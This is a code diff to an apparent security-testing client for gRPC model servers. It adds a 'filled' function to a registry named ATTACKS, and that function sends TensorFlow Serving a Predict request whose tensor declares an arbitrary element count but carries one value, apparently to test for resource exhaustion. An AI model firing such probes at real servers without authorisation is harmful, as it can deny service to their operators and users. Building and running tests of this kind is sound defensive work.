@@ -20,6 +20,8 @@ from typing import Any
 
 os.environ.setdefault("GRPC_VERBOSITY", "NONE")  # it tells of each connection that is closed
 import grpc
+from tensorflow.core.framework import types_pb2
+from tensorflow_serving.apis import predict_pb2
 
 from client.outputs import find_endpoint, parse_outputs
 from client.trust import ssl_context
@@ -64,6 +66,18 @@ def method(model: str, path: str, message: str = "", size: str = "0", packed: st
     with opened:
         unary = opened.unary_unary(prefix + path)
         return status(lambda: unary(request, timeout=DEADLINE, compression=compression))
+
+
+def filled(model: str, elements: str) -> str:
+    """A PredictRequest whose tensor has so many elements and one value, which stands for all."""
+    request = predict_pb2.PredictRequest()
+    request.model_spec.name = model
+    tensor = request.inputs["x"]
+    tensor.dtype = types_pb2.DT_FLOAT
+    tensor.tensor_shape.dim.add(size=int(elements))
+    tensor.float_val.append(4)
+    path = "/tensorflow.serving.PredictionService/Predict"
+    return method(model, path, request.SerializeToString().hex())
 
 
 def methods(model: str, *paths: str) -> dict[str, str]:
@@ -115,7 +129,7 @@ def raw(request: bytes) -> dict[str, Any]:
         socket.create_connection((host, int(port)), 10) as plain,
         context.wrap_socket(plain, server_hostname=address.authority) as connection,
     ):
-        connection.settimeout(5)
+        connection.settimeout(15)
         sending = threading.Thread(target=_send, args=(connection, request), daemon=True)
         sending.start()
         answer, closed = b"", False
@@ -177,7 +191,8 @@ def spelled(request: str) -> dict[str, Any]:
 
 
 ATTACKS: dict[str, Callable[..., Any]] = {
-    each.__name__: each for each in (method, methods, withheld, inflating, posted, sized, spelled)
+    each.__name__: each
+    for each in (method, filled, methods, withheld, inflating, posted, sized, spelled)
 }
 
 if __name__ == "__main__":
